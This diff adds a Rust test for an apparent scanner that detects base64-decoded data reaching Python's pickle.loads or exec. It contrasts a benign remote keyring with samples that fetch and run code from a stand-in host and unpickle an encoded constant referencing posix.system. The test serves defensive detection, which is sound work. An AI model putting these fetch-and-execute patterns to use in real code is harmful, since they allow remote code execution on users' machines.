@@ -791,3 +791,28 @@ fn mcp_client_configs_and_folded_template_paths_are_credentials() {
         "{own:?}"
     );
 }
+
+#[test]
+fn a_store_that_reads_back_its_own_base64_pickles_is_not_a_hidden_payload() {
+    // A keyring kept in a remote document: pickled, base64-encoded and uploaded by `save`, read back by `load`.
+    let store = "import base64, codecs, pickle\nclass DocKeyring:\n    def load(self):\n        reply = self.client.request('GET', self.url + '&format=txt')\n        body = reply.read()\n        if body.startswith(codecs.BOM_UTF8):\n            body = body[len(codecs.BOM_UTF8):]\n        return pickle.loads(base64.urlsafe_b64decode(body.decode('string-escape')))\n    def save(self, items):\n        body = base64.urlsafe_b64encode(pickle.dumps(items))\n        self.client.request('PUT', self.url, body)\n";
+    let found = py(store);
+    assert!(
+        found.iter().all(|f| f.0 != FlowKind::DecodedToExec),
+        "{found:?}"
+    );
+    // No writer of that format: a pickle fetched from elsewhere is still run.
+    let fetched = "import base64, pickle, requests\ndef load():\n    return pickle.loads(base64.b64decode(requests.get('https://cfg.example.invalid/s').text))\n";
+    assert!(py(fetched).iter().any(|f| f.0 == FlowKind::DecodedToExec));
+    // A json writer is not a pickle writer.
+    let json_writer =
+        format!("{fetched}def save(x):\n    return base64.b64encode(json.dumps(x))\n");
+    assert!(py(&json_writer)
+        .iter()
+        .any(|f| f.0 == FlowKind::DecodedToExec));
+    // Nor does a writer clear a decoded constant, or a decoded download handed to exec.
+    let constant = "import base64, pickle\nstate = pickle.loads(base64.b64decode('gASVEAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOULg=='))\ndef save(x):\n    return base64.b64encode(pickle.dumps(x))\n";
+    assert!(py(constant).iter().any(|f| f.0 == FlowKind::DecodedToExec));
+    let exec = "import base64, pickle, requests\ndef load():\n    exec(base64.b64decode(requests.get('https://cfg.example.invalid/s').text))\ndef save(x):\n    return base64.b64encode(pickle.dumps(x))\n";
+    assert!(py(exec).iter().any(|f| f.0 == FlowKind::DecodedToExec));
+}
